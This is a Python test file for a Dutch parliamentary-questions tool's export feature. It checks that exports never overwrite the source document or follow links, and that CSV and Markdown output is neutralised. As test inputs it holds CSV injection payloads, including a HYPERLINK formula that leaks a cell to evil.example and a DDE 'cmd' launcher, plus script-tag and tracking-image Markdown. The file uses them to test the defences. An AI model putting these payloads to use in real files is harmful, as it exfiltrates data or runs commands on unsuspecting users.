"""Exports never destroy and never inject (issue 17, rows 5, 6, 7, 8 and 14).

The writer (:mod:`parsers.library.export_file`) and ``vragenronde export
--output``: an existing file needs ``--force``; the exported document is
never the target (also through links); links are not followed; FIFOs and
folders are refused without being opened; ``DIR/`` is a folder. CSV cells
that a spreadsheet would run as a formula are neutralised; Markdown export
cannot contain HTML or embedded images.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import threading

import pytest

from parsers.library import ExportError, export_document, export_rows
from parsers.library.export import export_entries
from parsers.library.export_file import ExportExists, resolve_target, write_export
from parsers.model import Answer, Document, Faction, Meta, Question
from parsers.library.scan import DocEntry
from tests.corpus import SAMPLES
from tui import cli


# -- the writer ------------------------------------------------------------------

def test_new_file_is_written_with_the_usual_mode(tmp_path):
    target = tmp_path / "out.md"
    assert write_export(target, "tekst é\n") == target
    assert target.read_bytes() == "tekst é\n".encode()
    assert target.stat().st_mode & 0o777 == 0o666 & ~_umask()
    assert os.listdir(tmp_path) == ["out.md"]  # no temporary file left


def _umask() -> int:
    old = os.umask(0)
    os.umask(old)
    return old


def test_existing_file_needs_overwrite_and_keeps_its_mode(tmp_path):
    target = tmp_path / "out.md"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o640)
    with pytest.raises(ExportExists) as err:
        write_export(target, "new")
    assert err.value.path == target and str(err.value) == f"{target} exists"
    assert target.read_text(encoding="utf-8") == "old"
    write_export(target, "new", overwrite=True)
    assert target.read_text(encoding="utf-8") == "new" and target.stat().st_mode & 0o777 == 0o640
    assert os.listdir(tmp_path) == ["out.md"]


def test_the_source_is_never_the_target(tmp_path):
    source = tmp_path / "doc.txt"
    source.write_text("origineel", encoding="utf-8")
    (tmp_path / "soft.md").symlink_to(source)
    os.link(source, tmp_path / "hard.md")
    for name in ("doc.txt", "soft.md", "hard.md"):
        with pytest.raises(ExportError) as err:
            write_export(tmp_path / name, "csv", overwrite=True, sources=[source])
        assert str(err.value) == f"{tmp_path / name} is the document being exported; choose another name"
    assert source.read_text(encoding="utf-8") == "origineel"


def test_links_are_not_followed(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    dangling = tmp_path / "out.md"
    dangling.symlink_to(elsewhere / "created.md")
    with pytest.raises(ExportExists):
        write_export(dangling, "x")
    write_export(dangling, "x", overwrite=True)
    assert not dangling.is_symlink() and dangling.read_text(encoding="utf-8") == "x"
    assert list(elsewhere.iterdir()) == []
    victim = elsewhere / "victim.txt"
    victim.write_text("victim", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(victim)
    write_export(link, "y", overwrite=True)
    assert victim.read_text(encoding="utf-8") == "victim" and link.read_text(encoding="utf-8") == "y"


def test_only_regular_files_are_written(tmp_path):
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    folder = tmp_path / "folder.md"
    folder.mkdir()
    result: list = []

    def attempt():  # must fail at once, never block opening the FIFO
        for target in (fifo, folder):
            try:
                write_export(target, "x", overwrite=True)
            except ExportError as exc:
                result.append(str(exc))

    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(10)
    assert not worker.is_alive()
    assert result == [f"{fifo} is a named pipe (FIFO), not a regular file; choose another name",
                      f"{folder} is a folder, not a regular file; choose another name"]


def test_no_partial_file_on_failure(tmp_path):
    with pytest.raises(ExportError) as err:
        write_export(tmp_path / "missing" / "out.md", "x")
    assert str(err.value) == f"cannot write {tmp_path / 'missing' / 'out.md'}: No such file or directory"
    target = tmp_path / "newdir" / "deeper" / "out.md"
    write_export(target, "x", create_folder=True)
    assert target.read_text(encoding="utf-8") == "x"


def test_resolve_target(tmp_path):
    (tmp_path / "dir").mkdir()
    (tmp_path / "taken.md").write_text("", encoding="utf-8")
    (tmp_path / "dangling.md").symlink_to(tmp_path / "nowhere")
    assert resolve_target("", "taken", "md", tmp_path) == tmp_path / "taken-2.md"
    assert resolve_target("", "dangling", "md", tmp_path) == tmp_path / "dangling-2.md"
    assert resolve_target("newdir/", "stem", "csv", tmp_path) == tmp_path / "newdir" / "stem.csv"
    assert resolve_target("dir", "stem", "md", tmp_path) == tmp_path / "dir" / "stem.md"
    assert resolve_target("name", "stem", "json", tmp_path) == tmp_path / "name.json"
    assert resolve_target("name.txt", "stem", "md", tmp_path) == tmp_path / "name.txt"


# -- vragenronde export --output -------------------------------------------------

@pytest.fixture
def doc(tmp_path, monkeypatch):
    monkeypatch.setenv("VRAGENRONDE_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "doc.txt"
    shutil.copy(SAMPLES / "kamervragen-antwoordbrief.txt", path)
    return path


def call(capsys, *args) -> tuple[int, str, str]:
    status = cli.main([str(a) for a in args])
    out = capsys.readouterr()
    return status, out.out, out.err


def test_cli_output_needs_force_to_replace(doc, capsys, tmp_path):
    from parsers import parse_path

    expected = export_document(parse_path(doc), "csv", name=str(doc))
    target = tmp_path / "out.csv"
    assert call(capsys, "export", doc, "--format", "csv", "-o", target) == (
        0, "", f"vragenronde: geëxporteerd naar {target}\n")
    assert target.read_text(encoding="utf-8") == expected
    target.write_text("mine", encoding="utf-8")
    assert call(capsys, "export", doc, "--format", "csv", "--output", target) == (
        2, "", f"vragenronde: {target} bestaat al; voeg --force toe om het te vervangen\n")
    assert call(capsys, "--lang", "en", "export", doc, "--format", "csv", "--output", target) == (
        2, "", f"vragenronde: {target} exists; add --force to replace it\n")
    assert target.read_text(encoding="utf-8") == "mine"
    assert call(capsys, "export", doc, "--format", "csv", "-o", target, "--force")[0] == 0
    assert target.read_text(encoding="utf-8") == expected
    assert call(capsys, "export", doc, "--force") == (
        2, "", "vragenronde: --force hoort bij --output BESTAND\n")
    assert call(capsys, "export", doc, "--force", "--lang", "en") == (
        2, "", "vragenronde: --force goes with --output FILE\n")


def test_cli_output_never_the_document(doc, capsys):
    original = doc.read_bytes()
    (doc.parent / "link.csv").symlink_to(doc)
    for target in (str(doc), "link.csv", "./doc.txt"):
        status, out, err = call(capsys, "export", doc, "--format", "csv", "-o", target, "--force")
        assert (status, out) == (2, "") and err.endswith(" is the document being exported; choose another name\n")
    assert doc.read_bytes() == original


def test_cli_folder_export_never_overwrites_a_library_document(doc, capsys, tmp_path):
    inside = tmp_path / "doc.txt"
    status, _, err = call(capsys, "export", tmp_path, "-o", inside, "--force")
    assert status == 2 and err == f"vragenronde: {inside} is the document being exported; choose another name\n"


def test_cli_output_fifo_and_folder_name(doc, capsys, tmp_path):
    os.mkfifo(tmp_path / "pipe.md")
    assert call(capsys, "export", doc, "-o", "pipe.md", "--force") == (
        2, "", f"vragenronde: {tmp_path / 'pipe.md'} is a named pipe (FIFO), not a regular file; "
        "choose another name\n")
    assert call(capsys, "export", doc, "--question", "1", "-o", "newdir/")[0] == 0
    assert (tmp_path / "newdir" / "doc-1.md").is_file() and not (tmp_path / "newdir.md").exists()
    assert call(capsys, "export", doc, "--table", "figures", "--format", "csv", "-o", "newdir")[0] == 0
    assert (tmp_path / "newdir" / "doc-figures.csv").is_file()


def test_cli_output_dangling_link(doc, capsys, tmp_path):
    (tmp_path / "out.md").symlink_to(tmp_path / "elsewhere.md")
    assert call(capsys, "export", doc, "-o", "out.md")[0] == 2
    assert call(capsys, "export", doc, "-o", "out.md", "--force")[0] == 0
    assert not (tmp_path / "elsewhere.md").exists() and not (tmp_path / "out.md").is_symlink()


# -- what goes into the file -----------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+1", "-2+3", "@SUM(A1:A2)",
           "\tTAB", "\rCR", "gewoon", "- een opsomming"]


def hostile_doc() -> Document:
    qs = [Question(id=f"X-{i}", number=i, text=t, answer=Answer(text=HOSTILE[-1 - i]))
          for i, t in enumerate(HOSTILE)]
    return Document(meta=Meta(kind="kamervragen", title="=cmd|' /C calc'!A0"),
                    factions=[Faction(name="@fractie", questions=qs)])


def test_csv_cells_are_neutralised():
    text = export_document(hostile_doc(), "csv", name="-doc.txt")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["question"] for r in rows] == [
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+1+1", "'-2+3", "'@SUM(A1:A2)",
        "'\tTAB", "'\nCR", "gewoon", "'- een opsomming"]
    assert rows[0]["answer"] == "'- een opsomming" and rows[6]["answer"] == "'+1+1"
    assert {r["faction"] for r in rows} == {"'@fractie"} and rows[0]["document"] == "'-doc.txt"
    assert rows[1]["number"] == "1"  # numbers stay numbers
    # header, one line per row, two quoted line breaks (question X-5, answer X-2), the end
    assert len(text.split("\n")) == 1 + len(HOSTILE) + 2 + 1
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_of_rows_and_entries_is_neutralised_too():
    rows = [{"document": "=a", "question_id": "-1", "question": "@x", "answer": "+y"}]
    parsed = next(csv.DictReader(io.StringIO(export_rows(rows, "csv"))))
    assert (parsed["document"], parsed["question_id"], parsed["question"], parsed["answer"]) == (
        "'=a", "'-1", "'@x", "'+y")
    entry = DocEntry(path=SAMPLES / "x.txt", rel="=x.txt", state="ok", title="+t")
    parsed = next(csv.DictReader(io.StringIO(export_entries([entry], "csv"))))
    assert (parsed["path"], parsed["title"]) == ("'=x.txt", "'+t")


def test_json_keeps_the_text_exact():
    import json

    data = json.loads(export_document(hostile_doc(), "json", name="doc"))
    assert [r["question"] for r in data] == HOSTILE


MD_TEXT = ('Zie <script>alert(1)</script> en ![pixel](https://evil.example/p.png) '
           'en <img src="https://evil.example/i.png"> en \\<b>vet</b> en \\![x](http://e/x.png)')


def test_markdown_has_no_html_or_images():
    doc = Document(meta=Meta(kind="kamervragen", title="<b>Titel</b> ![t](http://e/t.png)"),
                   factions=[Faction(name="<i>SP</i>", questions=[
                       Question(id="SP-1", number=1, text=MD_TEXT, answer=Answer(text=MD_TEXT))])])
    text = export_document(doc, "md", name="<doc>.txt")
    assert "<" not in text and "![" not in text
    assert text.startswith("# &lt;b>Titel&lt;/b> &#33;[t](http://e/t.png)\n\n- Bestand: &lt;doc>.txt\n")
    assert "## &lt;i>SP&lt;/i>\n" in text
    assert ("Zie &lt;script>alert(1)&lt;/script> en &#33;[pixel](https://evil.example/p.png) en "
            '&lt;img src="https://evil.example/i.png"> en \\&lt;b>vet&lt;/b> en \\&#33;[x](http://e/x.png)') in text
    rows = [{"document": "<a>", "question_id": "1", "question": MD_TEXT, "answer": "", "faction": "<f>"}]
    listed = export_rows(rows, "md", title="Search: <x> ![y](z)")
    assert "<" not in listed and "![" not in listed
    entry = DocEntry(path=SAMPLES / "x.txt", rel="<x>.txt", state="ok", title="![a](b) | <c>")
    table = export_entries([entry], "md")
    assert "<" not in table and "![" not in table and "&#33;[a](b) \\| &lt;c>" in table
